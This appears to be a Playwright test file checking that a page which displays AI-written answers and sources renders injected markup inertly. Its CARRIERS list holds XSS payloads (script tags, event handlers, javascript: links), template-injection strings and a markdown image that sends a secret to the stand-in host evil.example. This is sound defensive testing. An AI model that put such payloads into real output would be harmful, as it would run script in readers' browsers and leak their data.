"""What a model or a document may write to make a page load, run or link something: none of it does."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Route, expect

from page.conftest import OpenPage
from support.served import Served

HOST = "evil.example"
CARRIERS = (
    f"![x](http://{HOST}/a.png?q=secret)",
    f"![x][r]\n\n[r]: http://{HOST}/a.png",
    f"[click](http://{HOST}/)",
    f"[click][r]\n\n[r]: http://{HOST}/ 'title'",
    f"<http://{HOST}/>",
    f"http://{HOST}/ and //{HOST}/ and www.{HOST}",
    f"<img src=http://{HOST}/a.png>",
    "<img src=x onerror=owned()>",
    "<script>owned()</script>",
    f"<script src=//{HOST}/a.js></script>",
    f"<iframe src=http://{HOST}/></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<svg onload=owned()><a xlink:href=javascript:owned()>x</a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:owned()>x</maction></math>",
    "[x](javascript:owned())",
    "[x](data:text/html,<script>owned()</script>)",
    f"<style>@import url(http://{HOST}/a.css);</style>",
    f"<div style='background:url(http://{HOST}/a.png)'>x</div>",
    f"<link rel=stylesheet href=http://{HOST}/a.css>",
    f"<base href=http://{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<form action=http://{HOST}/><button>Go on</button></form>",
    f"<object data=http://{HOST}/a.swf></object><embed src=http://{HOST}/a.swf>",
    f"$$\\href{{http://{HOST}/}}{{x}}$$ \\includegraphics{{http://{HOST}/a.png}}",
    f"[^1]\n\n[^1]: http://{HOST}/",
    f"| a | b |\n|---|---|\n| ![x](http://{HOST}/a.png) | <img src=http://{HOST}/b.png> |",
    f"```html\n<img src=http://{HOST}/a.png>\n```",
    f"- <img src=http://{HOST}/a.png>\n> ![x](http://{HOST}/b.png)",
    "\u202e<b onmouseover=owned()>\u200b</b>",
    "{{constructor.constructor('owned()')()}} ${owned()} #{owned()}",
)

# Elements that load or run something; the page has none of them in its views but forms without an action.
LOADING = "img, iframe, script, object, embed, form[action], base, style, link, meta"


@pytest.fixture
def record(served: Served) -> dict[str, Any]:
    """A run with an answer, as the API gives it."""
    with served.client() as client:
        answer = client.post("/api/v1/ask", json={"question": "Who founded the library?"}).json()
        found: dict[str, Any] = client.get(f"/api/v1/runs/{answer['run_id']}").json()
    return found


def carrying(record: dict[str, Any], carrier: str) -> dict[str, Any]:
    """The run with the carrier in all that a model or a document writes."""
    changed: dict[str, Any] = json.loads(json.dumps(record))
    answer = changed["events"][-1]["body"]["answer"]
    changed["run"]["question"] = answer["question"] = carrier
    answer["text"] = f"It says {carrier} [1]"
    answer["warnings"] = [carrier]
    answer["judgement"]["missing"] = [carrier]
    answer["judgement"]["contradictions"] = [
        {"aspect": carrier, "readings": [{"value": carrier, "passage_ids": [], "date": carrier}] * 2}
    ]
    answer["repairs"] = [{"kind": "dropped", "before": carrier, "after": "", "reason": carrier}]
    for claim in answer["claims"]:
        claim.update(text=carrier, start=0, end=len(answer["text"]) - 4)
    answer["citations"] = [{"start": len(answer["text"]) - 3, "end": len(answer["text"]), "numbers": [1]}]
    for source in answer["sources"]:
        source.update(title=carrier, quote=carrier, path=carrier)
        source["location"]["section"] = carrier
        source["origin"]["link"] = carrier
    for event in changed["events"]:
        for hit in event["body"].get("evidence", {}).get("hits", ()):
            hit["passage"].update(title=carrier, text=carrier)
    changed["labels"] = [
        {"version": 1, "run_id": "x", "claim": 0, "good": True, "at": 0, "by": carrier, "note": carrier}
    ]
    return changed


def test_no_carrier_in_an_answer_loads_runs_or_links_anything(
    open_page: OpenPage, served: Served, record: dict[str, Any]
) -> None:
    page = open_page().open(served)
    shown: dict[str, Any] = {}

    def answer(route: Route) -> None:
        route.fulfill(json=shown)

    page.route("**/api/v1/runs/carrier-*", answer)
    page.evaluate("() => { window.owned = () => { window.ran = true; } }")
    for number, carrier in enumerate(CARRIERS):
        shown = carrying(record, carrier)
        page.evaluate(f"() => {{ location.hash = '#/runs/carrier-{number}' }}")
        expect(page.locator(".prose").first).to_contain_text("It says")
        page.locator(".mark").first.click()
        for fold in page.locator("main details:not([open]) > summary").all():
            if fold.is_visible():
                fold.click()
        found = page.locator("main").evaluate("(main, tags) => main.querySelectorAll(tags).length", LOADING)
        assert found == 0, carrier
        links = page.locator("main a:not([href^='#'])").evaluate_all("(links) => links.map((link) => link.rel)")
        # The address of a source, if it is one.
        assert set(links) <= {"noopener noreferrer nofollow"}, carrier
        page.evaluate("() => { location.hash = '#/check' }")
        page.locator("label textarea").wait_for()
    assert page.evaluate("() => window.ran") is None


def test_the_address_of_an_outside_source_is_the_only_link(
    open_page: OpenPage, served: Served, record: dict[str, Any]
) -> None:
    for source in record["events"][-1]["body"]["answer"]["sources"]:
        source["origin"]["link"] = "https://en.example.org/wiki/Library"
    page = open_page().open(served)
    page.route("**/api/v1/runs/outside", lambda route: route.fulfill(json=record))
    page.evaluate("() => { location.hash = '#/runs/outside' }")
    link = page.locator(".source a")
    expect(link).to_have_attribute("href", "https://en.example.org/wiki/Library")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
